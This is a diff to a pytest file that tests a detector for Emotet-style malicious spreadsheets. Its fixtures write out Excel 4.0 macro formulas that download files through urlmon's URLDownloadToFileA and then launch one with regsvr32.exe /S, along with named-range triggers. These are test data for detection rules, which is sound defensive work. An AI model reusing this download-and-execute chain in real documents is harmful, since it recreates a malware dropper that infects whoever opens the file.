@@ -51,24 +51,28 @@ def shells(plan: BookPlan) -> list[set[str]]:
     ]
 
 
-def listed(end: str = "ocx", switch: str = "/S", folder: str = "..\\", types: str = "JJCCBB") -> BookPlan:
+def listed(
+    end: str = "ocx", switch: str = "/S", folder: str = "..\\", types: str = "JJCCBB", stem: str = "hvxda", numbers: str = "123"
+) -> BookPlan:
     cells: dict[str, str | float] = {}
-    for row, url in enumerate(URLS, 1):
-        call = f'CALL("urlmon","URLDownloadToFileA","{types}",0,"{url}","{folder}hvxda{row}.{end}",0,0)'
+    for row, (url, number) in enumerate(zip(URLS, numbers or ("", "", ""), strict=True), 1):
+        call = f'CALL("urlmon","URLDownloadToFileA","{types}",0,"{url}","{folder}{stem}{number}.{end}",0,0)'
         cells[f"F{row}"] = f"={call}" if row == 1 else f"=IF(ABC<0,{call})"
-    cells["F8"] = f'=EXEC("C:\\Windows\\System32\\regsvr32.exe {switch} {folder}hvxda1.{end}")'
+    cells["F8"] = f'=EXEC("C:\\Windows\\System32\\regsvr32.exe {switch} {folder}{stem}{numbers[:1]}.{end}")'
     cells["F9"] = "=RETURN()"
     return book(cells, (NamePlan("ABC", "OO!$F$1"),))
 
 
 def test_a_list_of_downloads_in_each_shell() -> None:
-    assert shells(listed()) == [{"emotet_excel4_list", "excel4_fetches_library"}] * 3
+    for plan in (listed(), listed(end="dll", switch="-s", numbers=""), listed(stem="si", switch="/s")):
+        assert shells(plan) == [{"emotet_excel4_list", "excel4_fetches_library"}] * 3
 
 
 @pytest.mark.parametrize(
     "plan",
     [
         listed(end="red"),
+        listed(stem="Drezd"),
         listed(switch="-silent"),
         listed(switch="-e -n -i:&Tiposa& "),
         listed(folder="C:\\Uduw\\"),
@@ -244,11 +248,3 @@ def test_a_window_that_is_hidden_by_something_else(constant: str) -> None:
     assert fits(document("ShowWindow", constant)) == set(), "it does not start by itself"
     assert fits(document("AutoOpen", constant)) == set(), "a document that sets a texture"
     assert fits(document("AutoOpen", "ShowWindow", "vbHide")) == set()
-
-
-def test_how_a_script_begins() -> None:
-    text = "var a=['aGVsbG8=','d29ybGQ='];(function(b,c){}(a,0x12));"
-    assert fits(text.encode("utf-16")) == fits(text.encode("utf-16-le")) == {"emotet_javascript_array"}
-    assert fits(text.encode()) == set()
-    assert fits(("/* */" + text).encode("utf-16")) == set()
-    assert fits("var b=['a'];".encode("utf-16")) == set()
